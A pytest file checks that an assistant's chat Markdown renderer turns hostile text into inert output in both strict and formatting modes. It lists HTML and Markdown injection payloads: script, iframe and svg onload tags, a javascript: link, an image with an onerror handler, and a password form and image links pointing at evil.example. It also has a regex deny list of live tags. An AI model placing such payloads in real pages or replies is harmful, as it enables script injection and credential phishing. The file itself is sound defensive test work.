"""rendering.chat_markdown against hostile text, rendered by a real Markdown implementation (python-markdown) as a
stand-in for the chat's: nothing from the text becomes a tag that loads, links, posts or runs — in the strict mode
(document quotes, template replies, what the user typed) and in the formatting mode kept for a model's answer."""

from __future__ import annotations

import re

import markdown
import pytest

from assistant.rendering import chat_markdown

HOSTILE = [
    '<form action="http://evil.example/x"><input type="password"></form>',
    '<img src="http://evil.example/a.png" onerror="alert(1)">',
    "![logo](http://evil.example/b.png)",
    "![logo][r]\n\n[r]: http://evil.example/c.png",
    "[官方入口](http://evil.example/go)",
    "<http://evil.example/auto>",
    "http://evil.example/bare and www.evil.example",
    '<video poster="http://evil.example/p.png"></video>',
    "<script>alert(2)</script>",
    '<iframe src="http://evil.example/f"></iframe>',
    '<span style="color:red">红字</span>',
    "<a href='javascript:alert(3)'>点</a>",
    "&lt;img src=x&gt; already escaped",
    "<!-- comment --><style>body{display:none}</style>",
    "[链接]( http://evil.example/space )",
    "<svg onload=alert(4)>",
]
LIVE = re.compile(r"<(?:img|a|form|input|video|audio|iframe|script|style|svg|span|object|embed|link|source)\b", re.I)


@pytest.mark.parametrize("formatting", [False, True])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_the_text_becomes_a_live_tag(text, formatting):
    rendered = markdown.markdown(chat_markdown(text, formatting=formatting))
    assert not LIVE.search(rendered), rendered


def test_strict_mode_shows_the_text_as_written():
    text = "**加粗** _斜_ # 标题\n3. 第三条\n- 项\n===\n| a | b |\n`code` $x$"
    rendered = markdown.markdown(chat_markdown(text))
    assert not re.search(r"<(?:strong|em|h\d|ol|ul|li|code|table)\b", rendered), rendered
    for piece in ("**加粗**", "_斜_", "# 标题", "3.", "`code`"):
        assert piece in rendered.replace("\\", ""), (piece, rendered)


def test_a_models_formatting_is_kept():
    rendered = markdown.markdown(chat_markdown("**重点**：\n\n1. 条件一\n2. 条件二 [1]"))
    assert "<strong>" not in rendered  # strict by default
    rendered = markdown.markdown(chat_markdown("**重点**：\n\n1. 条件一\n2. 条件二 [1]", formatting=True))
    assert "<strong>重点</strong>" in rendered and "<ol>" in rendered and "[1]" in rendered
